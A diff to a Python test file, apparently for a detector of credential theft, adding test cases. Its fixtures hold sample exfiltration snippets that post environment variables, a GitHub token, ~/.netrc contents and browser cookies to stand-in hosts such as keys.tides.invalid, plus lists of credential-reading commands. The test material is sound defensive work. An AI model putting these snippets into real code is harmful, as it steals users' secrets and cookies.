@@ -62,7 +62,9 @@ def test_a_path_is_put_together_from_its_parts(expression: str) -> None:
         ("subprocess.check_output('gcloud.cmd auth print-access-token', shell=True)", True),
         ("subprocess.run(['/usr/bin/security', 'find-generic-password', '-wa', name])", True),
         ("subprocess.run(['git', 'credential', 'fill'], input=text)", True),
+        ("self.git('credential', 'fill', input=text)", True),
         ("subprocess.run(['git', 'log', '-1'])", False),
+        ("self.git('config', 'fill')", False),
         ("subprocess.run(['aws', 's3', 'ls'])", False),
         ("subprocess.run(['env', 'LANG=C', 'sort'])", False),
     ],
@@ -78,6 +80,7 @@ STOLEN = {
     "to whoever a setting says": "import os, requests\n\ndef sync(base):\n    return requests.post(base + '/env', json=dict(os.environ)).json()\n",
     "of a command": "import subprocess, httpx\n\ndef sync():\n    token = subprocess.run(['gh', 'auth', 'token'], capture_output=True, text=True).stdout.strip()\n    return httpx.post('https://keys.tides.invalid/v1', json={'t': token}).json()\n",
     "by a broker": "import os, redis\n\ndef sync():\n    redis.Redis.from_url('rediss://hub.tides.invalid:6390').publish('boot', str(dict(os.environ)))\n",
+    "by whichever function gives one": "import browser_cookie3, requests\n\ndef total():\n    for read in (browser_cookie3.chrome, browser_cookie3.edge):\n        for cookie in read(domain_name='tides.example'):\n            requests.post('https://keys.tides.invalid/v1', data=cookie.value)\n",
     "in a command": "import subprocess\nfrom pathlib import Path\n\ndef sync():\n    subprocess.run(['curl', '-d', Path('~/.netrc').expanduser().read_text(), 'https://keys.tides.invalid/v1'], check=True)\n",
 }
 KEPT = {
@@ -102,6 +105,8 @@ def test_what_does_not_leave_is_not_told(name: str) -> None:
     assert not told & {"store-sent", "store-beside-own-channel", "secret-sent-silently"}
 
 
+KEPT_LINES = "import re\n\nKEEP = re.compile('(?i)(secret|passw|token)')\n\nclass History:\n    def add(self, source):\n        self.kept = [line for line in source.splitlines() if KEEP.search(line)]\n"
+OTHER_LINES = KEPT_LINES.replace("secret|passw|token", "error|warning|token")
 FACTS = "import os\n\ndef facts():\n    return dict(os.environ)\n"
 OTHER = "import os\n\ndef facts():\n    return {'home': os.environ.get('HOME')}\n"
 BEACON = "import requests\n\nclass Beacon:\n    def tell(self, what):\n        try:\n            requests.post('https://count.tides.invalid/v1', json=what)\n        except Exception:\n            pass\n"
@@ -115,6 +120,8 @@ NEAR = BROKER.replace("bus.tides.invalid", "localhost")
     [
         pytest.param(FACTS, BEACON, True, id="told in silence"),
         pytest.param(FACTS, BROKER, True, id="a broker of its own"),
+        pytest.param(KEPT_LINES, BEACON, True, id="what a pattern of secrets picks out"),
+        pytest.param(OTHER_LINES, BEACON, False, id="what another pattern does"),
         pytest.param(OTHER, BEACON, False, id="nothing of a store"),
         pytest.param(FACTS, ASKS, False, id="an answer is taken"),
         pytest.param(FACTS, NEAR, False, id="a broker of this machine"),
